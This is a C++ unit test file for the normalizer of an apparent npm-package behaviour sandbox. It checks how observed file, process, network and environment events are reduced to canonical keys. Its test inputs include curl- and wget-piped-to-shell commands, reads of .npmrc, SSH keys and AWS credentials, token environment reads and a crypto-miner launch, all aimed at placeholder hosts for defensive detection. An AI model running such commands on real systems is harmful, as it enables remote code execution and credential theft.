#include "engine/analysis/normalizer.h"

#include <algorithm>

#include <gtest/gtest.h>

#include "engine/analysis/normalizer_shell.h"
#include "tests/engine/analysis/analysis_test_events.h"

namespace vigil::engine::analysis {
namespace {

using test::ev;
namespace kind = collect::kind;

std::vector<std::vector<std::string>> argvs(const ShellParse& p) {
    std::vector<std::vector<std::string>> out;
    for (const auto& c : p.commands)
        out.push_back(c.argv);
    return out;
}

std::vector<std::string> keysOf(const std::vector<Observation>& obs, Section s) {
    std::vector<std::string> out;
    for (const auto& o : obs)
        if (o.section == s && std::find(out.begin(), out.end(), o.key) == out.end())
            out.push_back(o.key);
    return out;
}

using V = std::vector<std::string>;

TEST(NormalizerPaths, CanonicalPlacesOfAConsumerInstall) {
    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
    EXPECT_EQ(n.path("/home/dev/project/node_modules/evil/lib/x.js"), "$PKG/lib/x.js");
    EXPECT_EQ(n.path("/home/dev/project/node_modules/evil"), "$PKG");
    EXPECT_EQ(n.path("/home/dev/project/node_modules/dep/index.js"), "$NODE_MODULES/dep/index.js");
    EXPECT_EQ(n.path("/home/dev/project/node_modules/@s/dep/a.js"), "$NODE_MODULES/@s/dep/a.js");
    EXPECT_EQ(n.path("/home/dev/project/node_modules/evil/node_modules/nested/a.js"), "$NODE_MODULES/nested/a.js");
    EXPECT_EQ(n.path("/home/dev/.npmrc"), "$HOME/.npmrc");
    EXPECT_EQ(n.path("/home/dev//.ssh/./id_ed25519"), "$HOME/.ssh/id_ed25519");
    EXPECT_EQ(n.path("/tmp/a/../inventory.txt"), "$TMP/inventory.txt");
    EXPECT_EQ(n.path("/tmpfoo/x"), "/tmpfoo/x");  // a sibling, not under /tmp
    EXPECT_EQ(n.path("/etc/passwd"), "/etc/passwd");
    EXPECT_EQ(n.path("relative/file"), "relative/file");
}

TEST(NormalizerPaths, TheApiDriversScratchDirectoryIsStimulusNotTheUsersProject) {
    const Normalizer n(PackageIdentity::inConsumer("lockfile", "1.0.4"));
    EXPECT_EQ(n.path("/home/dev/project/.vigil-stimulus"), "$STIMULUS");
    EXPECT_EQ(n.path("/home/dev/project/.vigil-stimulus/hello.lock"), "$STIMULUS/hello.lock");
    EXPECT_EQ(n.path("/home/dev/project/.vigil-stimulus/[object Object].123"), "$STIMULUS/[object Object].123");
    EXPECT_EQ(n.path("/home/dev/project/.vigil-stimulus-x/a"), "$HOME/project/.vigil-stimulus-x/a");  // a sibling
    EXPECT_EQ(n.path("/home/dev/project/hello.lock"), "$HOME/project/hello.lock");
    EXPECT_EQ(n.pathsInText("rm -f /home/dev/project/.vigil-stimulus/x /home/dev/project/y"),
              "rm -f $STIMULUS/x $HOME/project/y");
}

TEST(NormalizerPaths, PackageThatIsTheProject) {
    PackageIdentity id{"app", "2.0.0", "/home/dev/project"};
    const Normalizer n(id);
    EXPECT_EQ(n.path("/home/dev/project/index.js"), "$PKG/index.js");
    EXPECT_EQ(n.path("/home/dev/project/node_modules/dep/a"), "$NODE_MODULES/dep/a");
    EXPECT_EQ(n.pathsInText("cat /home/dev/.npmrc > /tmp/x; node /home/dev/project/i.js"),
              "cat $HOME/.npmrc > $TMP/x; node $PKG/i.js");
}

TEST(NormalizerHosts, HostsConnectionsAndHttpRequests) {
    EXPECT_EQ(Normalizer::host("X.Example."), "x.example");
    EXPECT_EQ(Normalizer::connection("X.example", 443, "TCP"), "x.example:443/tcp");
    EXPECT_EQ(Normalizer::connection("::1", 80, ""), "[::1]:80/tcp");
    // query values carry per-run data; only the names are behaviour
    EXPECT_EQ(Normalizer::httpRequest("post", "X.example", "/c?v=1&k=abc&v=2#frag"), "POST x.example /c?k&v");
    EXPECT_EQ(Normalizer::httpRequest("", "x.example", ""), "GET x.example /");
}

TEST(ShellSplit, PipelineInsideShC) {
    EXPECT_EQ(argvs(splitShell("curl -fsSL https://x.example/i.sh | sh")),
              (std::vector<V>{{"curl", "-fsSL", "https://x.example/i.sh"}, {"sh"}}));
}

TEST(ShellSplit, QuotesKeepOperatorsInsideWords) {
    const ShellParse p = splitShell(R"(echo 'a | b' "c && d" e\;f "x\"y" 'it'\''s')");
    ASSERT_EQ(p.commands.size(), 1u);
    EXPECT_EQ(p.commands[0].argv, (V{"echo", "a | b", "c && d", "e;f", "x\"y", "it's"}));
    EXPECT_TRUE(p.complete);
}

TEST(ShellSplit, ListsAndAndOr) {
    EXPECT_EQ(argvs(splitShell("a 1 && b || c; d & e\nf |& g")),
              (std::vector<V>{{"a", "1"}, {"b"}, {"c"}, {"d"}, {"e"}, {"f"}, {"g"}}));
}

TEST(ShellSplit, SubshellsAndSubstitutionsAreCommandsToo) {
    const ShellParse p = splitShell("(cd /tmp && wget http://x.example/p) ; echo \"$(curl -s y.example | base64 -d)\" `id`");
    std::vector<std::pair<V, int>> got;
    for (const auto& c : p.commands)
        got.emplace_back(c.argv, c.depth);
    EXPECT_EQ(got, (std::vector<std::pair<V, int>>{{{"cd", "/tmp"}, 1},
                                                   {{"wget", "http://x.example/p"}, 1},
                                                   {{"curl", "-s", "y.example"}, 1},
                                                   {{"base64", "-d"}, 1},
                                                   {{"id"}, 1},
                                                   {{"echo", "$(curl -s y.example | base64 -d)", "`id`"}, 0}}));
}

TEST(ShellSplit, RedirectionsAssignmentsReservedWordsAndHeredocs) {
    EXPECT_EQ(argvs(splitShell("FOO=1 BAR=\"x y\" node i.js >/tmp/o 2>&1 </dev/null")),
              (std::vector<V>{{"node", "i.js"}}));
    EXPECT_EQ(argvs(splitShell("if [ -f ~/.npmrc ]; then cat ~/.npmrc; fi")),
              (std::vector<V>{{"[", "-f", "~/.npmrc", "]"}, {"cat", "~/.npmrc"}}));
    EXPECT_EQ(argvs(splitShell("for f in a b; do rm $f; done")), (std::vector<V>{{"rm", "$f"}}));
    EXPECT_EQ(argvs(splitShell("cat <<EOF > /tmp/x\nrm -rf /\nEOF\necho done # comment")),
              (std::vector<V>{{"cat"}, {"echo", "done"}}));
    EXPECT_EQ(argvs(splitShell("echo $((1+2)) ${HOME}")), (std::vector<V>{{"echo", "$((1+2))", "${HOME}"}}));
}

TEST(ShellSplit, UnbalancedQuoteIsReportedIncomplete) {
    const ShellParse p = splitShell("curl 'http://x.example");
    EXPECT_FALSE(p.complete);
    ASSERT_EQ(p.commands.size(), 1u);
    EXPECT_EQ(p.commands[0].argv, (V{"curl", "http://x.example"}));
}

TEST(NormalizerCommands, ShellAndWrappersAreUnwrapped) {
    EXPECT_EQ(Normalizer::shellScript({"/bin/sh", "-c", "curl x | sh"}), "curl x | sh");
    EXPECT_EQ(Normalizer::shellScript({"bash", "-lc", "id", "name"}), "id");
    EXPECT_EQ(Normalizer::shellScript({"busybox", "sh", "-c", "id"}), "id");
    EXPECT_EQ(Normalizer::shellScript({"bash", "script.sh"}), "");
    EXPECT_EQ(Normalizer::unwrapWrapper({"env", "-i", "A=1", "node", "x.js"}), (V{"node", "x.js"}));
    EXPECT_EQ(Normalizer::unwrapWrapper({"timeout", "-s", "KILL", "5", "curl", "y"}), (V{"curl", "y"}));
    EXPECT_EQ(Normalizer::unwrapWrapper({"nohup", "./payload"}), (V{"./payload"}));
    EXPECT_EQ(Normalizer::unwrapWrapper({"sudo", "-u", "root", "id"}), (V{"id"}));
    EXPECT_TRUE(Normalizer::unwrapWrapper({"curl", "x"}).empty());
}

TEST(NormalizerObserve, RelativeExecOfADownloadedProgramKeepsItsPlace) {
    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
    const auto obs = n.observe(ev(3, kind::ProcessExec,
                                  {{"path", "/home/dev/project/node_modules/evil/jsextension"}, {"argv", {"./jsextension", "-k"}}}));
    EXPECT_EQ(keysOf(obs, Section::ProcessPrograms), (V{"$PKG/jsextension"}));
    EXPECT_EQ(keysOf(obs, Section::ProcessCommands), (V{"$PKG/jsextension -k"}));
    // A system program keeps its name: argv[0] says how it was asked for, /usr/bin says nothing.
    const auto sys = n.observe(ev(4, kind::ProcessExec, {{"path", "/usr/bin/curl"}, {"argv", {"curl", "-s", "x"}}}));
    EXPECT_EQ(keysOf(sys, Section::ProcessPrograms), (V{"curl"}));
}

TEST(NormalizerObserve, ExecOfShCGivesScriptCommandsAndPrograms) {
    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
    const auto obs = n.observe(ev(7, kind::ProcessExec,
                                  {{"path", "/bin/sh"},
                                   {"argv", {"sh", "-c", "curl -s https://x.example/p | nohup sh && cat /home/dev/.npmrc"}}}));
    EXPECT_EQ(keysOf(obs, Section::ShellCommands),
              (V{"curl -s https://x.example/p | nohup sh && cat $HOME/.npmrc"}));
    EXPECT_EQ(keysOf(obs, Section::ProcessPrograms), (V{"sh", "curl", "nohup", "cat"}));
    EXPECT_EQ(keysOf(obs, Section::ProcessCommands),
              (V{"sh -c 'curl -s https://x.example/p | nohup sh && cat /home/dev/.npmrc'", "curl -s https://x.example/p",
                 "nohup sh", "sh", "cat $HOME/.npmrc"}));
    for (const auto& o : obs)
        EXPECT_EQ(o.seq, 7u);
}

TEST(NormalizerObserve, RuntimeSpawnWithShellAndDownloadedProgram) {
    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
    const auto shell = n.observe(ev(1, kind::ProcessSpawn, {{"api", "exec"}, {"command", "wget -q y.example -O- | bash"},
                                                            {"args", nlohmann::json::array()}, {"shell", true}}));
    EXPECT_EQ(keysOf(shell, Section::ProcessPrograms), (V{"wget", "bash"}));
    const auto direct = n.observe(ev(2, kind::ProcessSpawn, {{"api", "spawn"}, {"command", "/tmp/xmrig"},
                                                             {"args", {"--url", "pool.example:3333"}}, {"shell", false}}));
    EXPECT_EQ(keysOf(direct, Section::ProcessPrograms), (V{"$TMP/xmrig"}));
    EXPECT_EQ(keysOf(direct, Section::ProcessCommands), (V{"$TMP/xmrig --url pool.example:3333"}));
    EXPECT_TRUE(keysOf(direct, Section::ShellCommands).empty());
}

TEST(NormalizerObserve, FilesNetworkEnvAndCode) {
    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
    const auto obs = n.observe(std::vector<collect::Event>{
        ev(1, kind::FileOpen, {{"path", "/home/dev/.npmrc"}, {"access", "read"}}),
        ev(2, kind::FileOpen, {{"path", "/tmp/inventory.txt"}, {"access", "write"}, {"create", true}}),
        ev(3, kind::FileUnlink, {{"path", "/home/dev/project/node_modules/evil/setup.js"}}),
        ev(4, kind::FileRename, {{"from", "/tmp/a"}, {"to", "/home/dev/.bashrc"}}),
        ev(5, kind::FileAccess, {{"api", "fs.writeFileSync"}, {"path", "/home/dev/.config/x"}}),
        ev(6, kind::NetConnect, {{"family", "inet"}, {"address", "10.1.2.3"}, {"port", 443}, {"host", "X.example"}}),
        ev(7, kind::NetSend, {{"family", "inet"}, {"address", "10.9.9.9"}, {"port", 53}}),
        ev(8, kind::NetDns, {{"name", "Data.X.example."}, {"type", "A"}}),
        ev(9, kind::NetHttp, {{"method", "post"}, {"host", "x.example"}, {"path", "/c?t=secret"}}),
        ev(10, kind::EnvRead, {{"name", "NPM_TOKEN"}, {"via", "process.env"}}),
        ev(11, kind::EnvEnumerate, {{"how", "stringify"}}),
        ev(12, kind::CodeEval, {{"length", 10}}),
        ev(13, kind::CodeGlobalOverride, {{"target", "fetch"}}),
        ev(14, kind::ProcessExit, {{"code", 0}}),
    });
    EXPECT_EQ(keysOf(obs, Section::FileReads), (V{"$HOME/.npmrc"}));
    EXPECT_EQ(keysOf(obs, Section::FileWrites), (V{"$TMP/inventory.txt", "$HOME/.bashrc", "$HOME/.config/x"}));
    EXPECT_EQ(keysOf(obs, Section::FileDeletes), (V{"$PKG/setup.js", "$TMP/a"}));
    EXPECT_EQ(keysOf(obs, Section::NetConnections), (V{"x.example:443/tcp", "10.9.9.9:53/udp"}));
    EXPECT_EQ(keysOf(obs, Section::NetDns), (V{"data.x.example"}));
    EXPECT_EQ(keysOf(obs, Section::NetHttp), (V{"POST x.example /c?t"}));
    EXPECT_EQ(keysOf(obs, Section::EnvReads), (V{"NPM_TOKEN"}));
    EXPECT_EQ(keysOf(obs, Section::EnvEnumerations), (V{"values:stringify"}));
    EXPECT_EQ(keysOf(obs, Section::CodeDynamic), (V{"eval"}));
    EXPECT_EQ(keysOf(obs, Section::CodeGlobalOverrides), (V{"fetch"}));
}

TEST(NormalizerObserve, AFailedUnlinkIsNotADeletionNorAFailedWriteAWrite) {
    const Normalizer n(PackageIdentity::inConsumer("lockfile", "1.0.4"));
    const auto obs = n.observe(std::vector<collect::Event>{
        ev(1, kind::FileUnlink, {{"path", "/home/dev/project/src/a.js"}, {"result", -2}}),
        ev(2, kind::FileRename, {{"from", "/home/dev/Documents/n.txt"}, {"to", "/home/dev/n.bak"}, {"result", -2}}),
        ev(3, kind::FileOpen, {{"path", "/home/dev/project/src/b.js"}, {"access", "write"}, {"truncate", true},
                               {"result", -13}}),
        ev(4, kind::FileMkdir, {{"path", "/home/dev/project/src"}, {"result", -17}}),
        ev(5, kind::FileOpen, {{"path", "/home/dev/.ssh/id_rsa"}, {"access", "readwrite"}, {"result", -2}}),
        ev(6, kind::FileUnlink, {{"path", "/home/dev/project/src/c.js"}, {"result", 0}}),
        ev(7, kind::FileUnlink, {{"path", "/home/dev/project/src/d.js"}}),  // no result known: counted
    });
    EXPECT_EQ(keysOf(obs, Section::FileDeletes), (V{"$HOME/project/src/c.js", "$HOME/project/src/d.js"}));
    EXPECT_EQ(keysOf(obs, Section::FileWrites), V{});
    EXPECT_EQ(keysOf(obs, Section::FileReads), (V{"$HOME/.ssh/id_rsa"}));  // the attempt to read is kept
}

collect::Event by(collect::Event e, int32_t pid, std::string exe, collect::Source source = collect::Source::Kernel) {
    e.pid = pid;
    e.exe = std::move(exe);
    e.source = source;
    return e;
}

TEST(NormalizerObserve, AHostProgramReadingItsOwnConfigIsNotThePackageReadingIt) {
    const Normalizer n(PackageIdentity::inConsumer("envinfo", "7.14.0"));
    const auto obs = n.observe(std::vector<collect::Event>{
        // envinfo runs `docker --version`; the host's docker reads its own config
        by(ev(1, kind::ProcessExec, {{"path", "/usr/bin/docker"}, {"argv", {"docker", "--version"}}}), 40, "/usr/bin/docker"),
        by(ev(2, kind::FileOpen, {{"path", "/home/dev/.docker/config.json"}, {"access", "read"}, {"result", 3}}), 40,
           "/usr/bin/docker"),
        by(ev(3, kind::FileOpen, {{"path", "/etc/ssl/certs/ca.pem"}, {"access", "read"}}), 40, "/usr/bin/docker"),
        // cat told to read it: the package's read
        by(ev(4, kind::ProcessExec, {{"path", "/usr/bin/cat"}, {"argv", {"cat", "/home/dev/.kube/config"}}}), 41,
           "/usr/bin/cat"),
        by(ev(5, kind::FileOpen, {{"path", "/home/dev/.kube/config"}, {"access", "read"}}), 41, "/usr/bin/cat"),
        // tar given the directory above
        by(ev(6, kind::ProcessExec, {{"path", "/usr/bin/tar"}, {"argv", {"tar", "czf", "/tmp/x.tgz", "/home/dev/.ssh/"}}}),
           42, "/usr/bin/tar"),
        by(ev(7, kind::FileOpen, {{"path", "/home/dev/.ssh/id_ed25519"}, {"access", "read"}}), 42, "/usr/bin/tar"),
        // the package's own node, and a program it brought
        by(ev(8, kind::FileOpen, {{"path", "/home/dev/.docker/config.json"}, {"access", "read"}}), 2,
           "/opt/nodejs/bin/node"),
        by(ev(9, kind::FileOpen, {{"path", "/home/dev/.aws/credentials"}, {"access", "read"}}), 43,
           "/home/dev/project/node_modules/envinfo/bin/helper"),
    });
    EXPECT_EQ(keysOf(obs, Section::FileToolReads), (V{"docker $HOME/.docker/config.json"}));
    EXPECT_EQ(keysOf(obs, Section::FileReads), (V{"/etc/ssl/certs/ca.pem", "$HOME/.kube/config", "$HOME/.ssh/id_ed25519",
                                                  "$HOME/.docker/config.json", "$HOME/.aws/credentials"}));
}

TEST(NormalizerObserve, ArgumentsNamingAFileOrADirectoryAboveIt) {
    const std::string key = "/home/dev/.ssh/id_rsa";
    EXPECT_TRUE(Normalizer::namedInArgv(key, {"cat", "/home/dev/.ssh/id_rsa"}));
    EXPECT_TRUE(Normalizer::namedInArgv(key, {"tar", "czf", "/tmp/x.tgz", "/home/dev/.ssh/"}));
    EXPECT_TRUE(Normalizer::namedInArgv(key, {"grep", "-r", "KEY", "/home/dev"}));
    EXPECT_TRUE(Normalizer::namedInArgv(key, {"cat", ".ssh/id_rsa"}));  // relative, from $HOME
    EXPECT_TRUE(Normalizer::namedInArgv(key, {"scp", "-i", "./id_rsa", "x.example:"}));
    EXPECT_TRUE(Normalizer::namedInArgv(key, {"tar", "czf", "x.tgz", "."}));
    EXPECT_TRUE(Normalizer::namedInArgv(key, {"ssh", "-o", "IdentityFile=/home/dev/.ssh/id_rsa", "h.example"}));
    EXPECT_FALSE(Normalizer::namedInArgv(key, {"docker", "--version"}));
    EXPECT_FALSE(Normalizer::namedInArgv(key, {"cat", "/home/dev/.ssh/id_rsa.pub"}));
    EXPECT_FALSE(Normalizer::namedInArgv(key, {"git", "status"}));
    EXPECT_FALSE(Normalizer::namedInArgv(key, {"/home/dev/.ssh/id_rsa"}));  // argv[0] is the program
}

TEST(NormalizerObserve, NodesGetenvPerKeyDuringAnEnumerationIsTheEnumerationNotReads) {
    const Normalizer n(PackageIdentity::inConsumer("debug", "4.4.3"));
    const std::string node = "/opt/nodejs/bin/node";
    const auto obs = n.observe(std::vector<collect::Event>{
        by(ev(1, kind::EnvEnumerate, {{"how", "keys"}, {"count", 2}, {"values", false}}), 2, node,
           collect::Source::Runtime),
        by(ev(2, kind::EnvRead, {{"name", "NPM_TOKEN"}, {"via", "getenv"}}), 2, node),
        by(ev(3, kind::EnvRead, {{"name", "GITHUB_TOKEN"}, {"via", "getenv"}}), 2, node),
        by(ev(4, kind::EnvRead, {{"name", "HOME"}, {"via", "getenv"}}), 77, "/usr/bin/git"),  // another process: a read
        by(ev(5, kind::FileOpen, {{"path", "/home/dev/project/node_modules/debug/src/node.js"}, {"access", "read"}}), 2,
           node),
        by(ev(6, kind::EnvRead, {{"name", "AWS_SECRET_ACCESS_KEY"}, {"via", "getenv"}}), 2, node),  // after: a read
    });
    EXPECT_EQ(keysOf(obs, Section::EnvReads), (V{"HOME", "AWS_SECRET_ACCESS_KEY"}));
    EXPECT_EQ(keysOf(obs, Section::EnvEnumerations), (V{"names:keys"}));
}

TEST(NormalizerObserve, EnumerationsSayWhetherValuesWereRead) {
    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
    const auto obs = n.observe(std::vector<collect::Event>{
        ev(1, kind::EnvEnumerate, {{"how", "keys"}}),                     // older record: keys lists names
        ev(2, kind::EnvEnumerate, {{"how", "stringify"}}),                // older record: stringify reads values
        ev(3, kind::EnvEnumerate, {{"how", "keys+get"}, {"values", true}}),  // keys, then the values by hand
        ev(4, kind::EnvEnumerate, {{"how", "getOwnPropertyNames"}, {"values", false}}),
    });
    EXPECT_EQ(keysOf(obs, Section::EnvEnumerations),
              (V{"names:keys", "values:stringify", "values:keys+get", "names:getOwnPropertyNames"}));
}

TEST(NormalizerObserve, HoneypotEmulationsKeepWhatThePackageChoseNotWhatTheRunAnswered) {
    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
    auto http = [](uint64_t seq, const char* emulation, nlohmann::json emulated) {
        return ev(seq, kind::NetHttp, {{"method", "GET"}, {"host", "h.example"}, {"path", "/"}, {"emulation", emulation},
                                       {"emulated", std::move(emulated)}});
    };
    const auto obs = n.observe(std::vector<collect::Event>{
        http(1, "npm.whoami", {{"username", "maria-kowalski"}}),
        http(2, "npm.publish", {{"package", "@acme/w"}, {"version", "2.0.1"}, {"tarball", "w.tgz"}}),
        http(3, "github.contents_put", {{"owner", "maria-kowalski"}, {"repo", "r"}, {"path", ".github/workflows/x.yml"}}),
        http(4, "geoip", {{"service", "IPInfo.io"}, {"country", "RU"}}),
        http(5, "download", {{"name", "a.sh"}, {"format", "script"}}),
        http(6, "npm.publish", "not an object"),
        ev(7, kind::NetHttp, {{"method", "GET"}, {"host", "h.example"}, {"path", "/"}}),
    });
    EXPECT_EQ(keysOf(obs, Section::NetEmulations),
              (V{"npm.whoami", "npm.publish @acme/w@2.0.1", "github.contents_put .github/workflows/x.yml", "geoip ipinfo.io",
                 "download a.sh", "npm.publish"}));
}

}  // namespace
}  // namespace vigil::engine::analysis
